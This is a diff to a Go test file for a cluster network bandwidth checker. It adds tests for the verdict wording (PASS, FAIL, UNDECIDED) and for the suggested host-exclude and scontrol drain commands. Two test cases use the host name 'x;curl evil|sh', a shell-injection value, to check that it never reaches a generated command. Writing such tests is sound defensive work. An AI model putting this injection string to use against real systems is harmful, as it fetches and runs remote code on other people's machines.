@@ -94,7 +94,7 @@ func TestReport(t *testing.T) {
 	}}))
 	for format, wants := range map[string][]string{
 		"table": {
-			"FAIL: 1 not connected host, 1 slow host, 1 slow link. 16 of 16 hosts", "Tested 240 of 240 ordered pairs", "a host slower by 5.0%", "host7 -> host9", "; 14 of 16 hosts are good",
+			"FAIL: 1 slow host, 1 not connected host, 1 slow link. 16 of 16 hosts", "Tested 240 of 240 ordered pairs", "a host slower by 5.0%", "host7 -> host9", "; 14 of 16 hosts are good",
 			"--exclude=host3,host5", "To drain (not run):  scontrol update nodename=host3,host5 state=drain reason=\"gobw fabric 2023-11-14\"", "between leaves",
 		},
 		"html":        {"<svg", "host7 -&gt; host9: 50", "host15"},
@@ -113,6 +113,59 @@ func TestReport(t *testing.T) {
 	incast := saved(t, simulated(t, schedule.Incast, Config{Hosts: 16, Seed: 2}))
 	if out, _ := ran(t, show.NewCommand, incast); !strings.Contains(out, "Incast") || !strings.Contains(out, "against one sender") {
 		t.Error(out)
+	}
+}
+
+// small is a run of three hosts, of which one is slow and one never came.
+func small() *matrix.Matrix {
+	m := &matrix.Matrix{
+		Pattern: "pairs", Planned: 1, Rounds: []matrix.Round{{Label: "pairs 1"}, {Label: "re-test", Retest: true}}, Rails: []string{"mlx5_0"},
+		Hosts: []matrix.Host{
+			{Rank: 0, Name: "node1", Verdict: stats.Verdict{Word: stats.Pass}},
+			{Rank: 2, Name: "node2", Verdict: stats.Verdict{Word: stats.Pass}},
+			{Rank: 1, Name: "node3", Verdict: stats.Failure(matrix.Absent, "look there", "did not come within 1m0s")},
+		},
+		Findings: []matrix.Finding{{Subject: matrix.Sender, From: 1, To: 1, Verdict: stats.Failure(matrix.Slow, "see it alone", "one direction")}},
+		Judged:   matrix.Judged{Sigma: 0.01, Slow: 0.05, HostPower: 0.05, LinkPower: 0.05, Tested: 2, Pairs: 2, Retests: 1},
+	}
+	m.Cells.Add(0, 1, 0, 0, matrix.Measured, 1e11, 1)
+	return m
+}
+
+// TestVerdict: the first word is the verdict of all that is judged; nobody is told to drain a host on which a rank too many was refused,
+// or hosts of a run that did not begin; and a name that is none for a host does not come into a command.
+func TestVerdict(t *testing.T) {
+	good := func(m *matrix.Matrix) { m.Findings, m.Hosts = nil, m.Hosts[:2] }
+	missed := report.Check{Expression: "bw >= 90Gb/s", Verdict: stats.Verdict{Word: stats.Fail}}
+	for name, tt := range map[string]struct {
+		change     func(*matrix.Matrix)
+		expect     []report.Check
+		want, lack string
+	}{
+		"slow": {func(*matrix.Matrix) {}, nil, "FAIL: 1 slow host, 1 absent host. 2 of 3 hosts, 1 rail, 1 round and 1 re-test.", ""},
+		"told": {func(*matrix.Matrix) {}, nil, "node2: see it alone", ""},
+		"list": {func(*matrix.Matrix) {}, nil, "--exclude=node2,node3 To drain", ""},
+		"good": {good, nil, "PASS: nothing bad found. 2 of 2 hosts", ""},
+		"cannot tell": {func(m *matrix.Matrix) {
+			good(m)
+			m.Findings = []matrix.Finding{{Subject: matrix.Link, To: 1, Verdict: stats.Unknown(stats.Unclear, "", "")}}
+		}, nil, "UNDECIDED: 1 undecided link.", ""},
+		"missed":           {good, []report.Check{missed, missed}, "FAIL: 2 missed expectations. 2 of 2 hosts", "exclude"},
+		"stopped":          {func(m *matrix.Matrix) { good(m); m.Planned = 9 }, nil, "after 1 of 9 rounds", ""},
+		"no power":         {func(m *matrix.Matrix) { good(m); m.Judged.HostPower = 0 }, nil, "UNDECIDED: too noisy (1.0% from one measurement to the next). 2 of 2 hosts", ""},
+		"nothing measured": {func(m *matrix.Matrix) { good(m); m.Cells = matrix.Cells{} }, nil, "UNDECIDED: nothing was measured.", ""},
+		"a rank too many":  {func(m *matrix.Matrix) { m.Findings, m.Hosts[2].Name = nil, "node1" }, nil, "1 absent host", "exclude"},
+		"did not begin":    {func(m *matrix.Matrix) { m.Rounds, m.Cells = nil, matrix.Cells{} }, nil, "No round was run", "exclude"},
+		"a command":        {func(m *matrix.Matrix) { m.Hosts[2].Name = "x;curl evil|sh" }, nil, "--exclude=node2 To drain", "=x;"},
+		"not a name":       {func(m *matrix.Matrix) { m.Hosts[2].Name = "x;curl evil|sh" }, nil, `names are none for a host: ["x;curl evil|sh"]`, ""},
+	} {
+		d := &report.Document{Complete: true, Fabric: small()}
+		tt.change(d.Fabric)
+		d.Checks = append(fabric.Checks(d), tt.expect...)
+		var got bytes.Buffer
+		if err := render.Documents(&got, "table", []*report.Document{d}); err != nil || !strings.Contains(strings.Join(strings.Fields(got.String()), " "), tt.want) || tt.lack != "" && strings.Contains(got.String(), tt.lack) {
+			t.Errorf("%s: %v, want %q\n%s", name, err, tt.want, got.String())
+		}
 	}
 }
 
